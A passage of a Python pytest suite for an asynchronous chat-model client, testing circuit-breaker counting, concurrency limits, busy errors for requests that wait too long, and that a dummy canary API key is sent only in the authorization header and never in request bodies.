    @pytest.mark.parametrize(
        "answer",
        [Fails(401), Fails(400, "content_filter"), Says(REPLY, pieces=40, pause=0.1)],
        ids=["a refusal", "a filter", "a reply that took too long"],
    )
    async def test_counts_from_the_last_answer_whatever_it_was(
        self, provider: Make, server: ChatServer, suggestion: Request, answer: Any
    ) -> None:
        asking = provider(tries=BREAKER_FAILURES - 1, deadline=1.0)
        for steps in ((Fails(500),), (answer,), (Fails(500),)):
            server.plays(*steps)
            with suppress(DomainError):
                await asking.reply(suggestion, drop)
        server.plays(Says(REPLY))
        assert (await asking.reply(suggestion, drop)).text == REPLY


class TestConcurrency:
    async def test_is_limited(self, provider: Make, server: ChatServer, suggestion: Request) -> None:
        server.plays(Says(REPLY, pieces=4, pause=0.05))
        asking = provider(concurrency=1)
        started = time.monotonic()
        await asyncio.gather(*(asking.reply(suggestion, drop) for _ in range(3)))
        assert time.monotonic() - started >= 0.6

    async def test_takes_nothing_from_the_time_of_a_reply_that_waited_for_its_place(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Says(REPLY, pieces=8, pause=0.1))
        asking = provider(concurrency=1, deadline=1.8)
        replies = await asyncio.gather(*(asking.reply(suggestion, drop) for _ in range(4)))
        assert [raw.text for raw in replies] == [REPLY] * 4
        assert all(raw.milliseconds < 1800 for raw in replies)

    async def test_ends_as_busy_what_waits_too_long_for_a_place_and_asks_nothing(
        self, provider: Make, server: ChatServer, suggestion: Request
    ) -> None:
        server.plays(Says(REPLY, pieces=8, pause=0.1))
        asking = provider(concurrency=1, patience=0.2)
        first = asyncio.create_task(asking.reply(suggestion, drop))
        outcomes = await asyncio.gather(
            first, *(asking.reply(suggestion, drop) for _ in range(BREAKER_FAILURES + 1)), return_exceptions=True
        )
        assert {type(outcome) for outcome in outcomes[1:]} == {ModelBusy}
        assert len(server.requests) == 1
        assert (await asking.reply(suggestion, drop)).text == REPLY


class TestTheKey:
    async def test_goes_to_the_server_alone(self, provider: Make, server: ChatServer, suggestion: Request) -> None:
        server.plays(Says(REPLY))
        await provider().reply(suggestion, drop)
        assert server.keys == ["Bearer sk-canary-7f3a"]
        assert "sk-canary" not in json.dumps(server.requests)
